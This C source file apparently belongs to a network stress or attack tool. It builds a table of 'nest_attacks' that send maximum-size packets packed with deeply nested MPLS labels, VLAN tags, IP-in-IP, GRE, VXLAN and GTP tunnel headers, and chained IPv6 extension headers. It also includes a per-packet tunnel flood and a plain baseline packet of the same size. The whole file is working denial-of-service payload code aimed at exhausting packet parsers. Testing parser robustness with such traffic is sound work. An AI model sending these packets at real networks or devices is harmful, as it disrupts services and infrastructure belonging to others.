/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Headers in headers, as many as a packet holds, and tunnels with all names that there are.
 */
#include <stddef.h>

#include "attacks.h"

#define FROM 0x0a000001u
#define TO   0xc0000201u

#define NEST_BYTES 65000u /* of headers in one packet */

static void finish(struct writer *w, uint64_t i)
{
    put_ipv4(w, FROM, TO, IP_UDP, 8);
    put_udp(w, (uint16_t)(40000 + i % 1000), 53, 0);
    writer_send(w);
}

static void mpls(struct writer *w, uint64_t i)
{
    put_ethernet(w, 0x8847);
    while (w->length < NEST_BYTES)
        put32(w, 0x00010040 + (uint32_t)(i << 12)); /* a label that is not the last one (RFC 3032) */
    put32(w, 0x00010140);
    finish(w, i);
}

static void vlan(struct writer *w, uint64_t i)
{
    put_ethernet(w, 0x88a8);
    for (; w->length < NEST_BYTES; i++)
        put32(w, (uint32_t)(i % 4095 << 16) | 0x8100);
    put32(w, 0x00010800);
    finish(w, i);
}

static void ip_in_ip(struct writer *w, uint64_t i)
{
    while (w->length < NEST_BYTES)
        put_ipv4(w, FROM, TO, IP_IPV4, NEST_BYTES - w->length + 8);
    finish(w, i);
}

static void gre(struct writer *w, uint64_t i)
{
    while (w->length < NEST_BYTES) {
        put_ipv4(w, FROM, TO, IP_GRE, NEST_BYTES - w->length + 12);
        put32(w, 0x00000800); /* RFC 2784: no options, IPv4 */
    }
    finish(w, i);
}

static void vxlan(struct writer *w, uint64_t i)
{
    put_ethernet(w, 0x0800);
    for (uint32_t vni = 0; w->length < NEST_BYTES; vni++) {
        put_ipv4(w, FROM, TO, IP_UDP, NEST_BYTES - w->length + 24);
        put_udp(w, 40000, 4789, NEST_BYTES - w->length + 16);
        put32(w, 0x08000000); /* RFC 7348: a network identifier follows */
        put32(w, (vni + (uint32_t)i) << 8);
        put_ethernet(w, 0x0800);
    }
    finish(w, i);
}

static void gtp(struct writer *w, uint64_t i)
{
    for (uint32_t teid = 1; w->length < NEST_BYTES; teid++) {
        put_ipv4(w, FROM, TO, IP_UDP, NEST_BYTES - w->length + 16);
        put_udp(w, 2152, 2152, NEST_BYTES - w->length + 8);
        put16(w, 0x30ff); /* 3GPP TS 29.281: a packet of somebody */
        put16(w, (uint16_t)(NEST_BYTES - w->length < 60000 ? NEST_BYTES - w->length + 28 : 60000));
        put32(w, teid + (uint32_t)i);
    }
    finish(w, i);
}

/* RFC 8200, section 4: options headers of 8 bytes one behind the other. */
static void extensions(struct writer *w, uint64_t i)
{
    put_ipv6(w, 1, 2, IP_DESTINATION_OPTIONS, NEST_BYTES);
    while (w->length < NEST_BYTES) {
        put32(w, (uint32_t)IP_DESTINATION_OPTIONS << 24 | 0x0104);
        put32(w, 0);
    }
    put32(w, (uint32_t)IP_UDP << 24 | 0x0104);
    put32(w, 0);
    put_udp(w, (uint16_t)(40000 + i % 1000), 53, 0);
    writer_send(w);
}

/* As long as the packets above, and nothing in it. */
static void plain(struct writer *w, uint64_t i)
{
    put_ipv4(w, FROM, TO, IP_UDP, NEST_BYTES);
    put_udp(w, (uint16_t)(40000 + i % 1000), 53, NEST_BYTES - 8);
    put_zeros(w, NEST_BYTES - 28);
    writer_send(w);
}

/* Every packet is in a tunnel of its own. */
static void tunnels(struct writer *w, uint64_t i)
{
    put_ipv4(w, FROM, TO, IP_UDP, 44);
    put_udp(w, 2152, 2152, 36);
    put16(w, 0x30ff);
    put16(w, 28);
    put32(w, (uint32_t)i);
    finish(w, 0);
}

const struct attack nest_attacks[] = {
    {"mpls", LINK_ETHERNET, mpls},        {"vlan", LINK_ETHERNET, vlan},
    {"ip-in-ip", LINK_RAW, ip_in_ip},     {"gre", LINK_RAW, gre},
    {"vxlan", LINK_ETHERNET, vxlan},      {"gtp", LINK_RAW, gtp},
    {"extensions", LINK_RAW, extensions}, {"plain", LINK_RAW, plain},
    {"tunnels", LINK_RAW, tunnels},       {NULL, 0, NULL},
};
